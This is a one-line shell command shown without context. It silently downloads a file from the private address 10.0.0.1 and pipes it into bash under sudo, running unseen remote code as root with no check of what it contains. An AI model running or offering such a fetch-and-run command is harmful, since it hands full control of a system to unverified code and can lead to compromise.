curl -sL https://10.0.0.1/a | sudo bash
